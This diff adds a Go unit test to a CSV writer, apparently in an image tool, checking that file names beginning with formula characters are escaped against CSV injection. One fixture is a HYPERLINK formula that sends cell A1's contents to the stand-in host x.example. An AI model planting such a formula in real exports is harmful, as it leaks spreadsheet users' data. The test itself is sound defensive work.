@@ -64,3 +64,38 @@ func TestCSV(t *testing.T) {
 		t.Errorf("no rows: %q, %v", empty.String(), err)
 	}
 }
+
+// TestCSVFormulaNames checks that file names a spreadsheet would run as a
+// formula are written as text (OWASP, CSV injection), and others as they
+// are.
+func TestCSVFormulaNames(t *testing.T) {
+	tests := []struct{ name, cell string }{
+		{`=HYPERLINK("http://x.example/?"&A1,"photo").jpg`, `'=HYPERLINK("http://x.example/?"&A1,"photo").jpg`},
+		{"+39 foto.jpg", "'+39 foto.jpg"},
+		{"-2+3.jpg", "'-2+3.jpg"},
+		{"@SUM(A1:A9).jpg", "'@SUM(A1:A9).jpg"},
+		{"\t=1+1.jpg", "'\t=1+1.jpg"},
+		{"\r=1+1.jpg", "'\r=1+1.jpg"},
+		{"foto=mario.jpg", "foto=mario.jpg"},
+		{"mario-rossi.jpg", "mario-rossi.jpg"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			var buf bytes.Buffer
+			w := NewCSVWriter(&buf, "en")
+			if err := w.Write(Item{Input: Input{Path: tc.name, Skip: SkipNotImage}}); err != nil {
+				t.Fatal(err)
+			}
+			if err := w.Close(); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := csv.NewReader(&buf).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := rows[1][0]; got != tc.cell {
+				t.Errorf("file cell %q, want %q", got, tc.cell)
+			}
+		})
+	}
+}
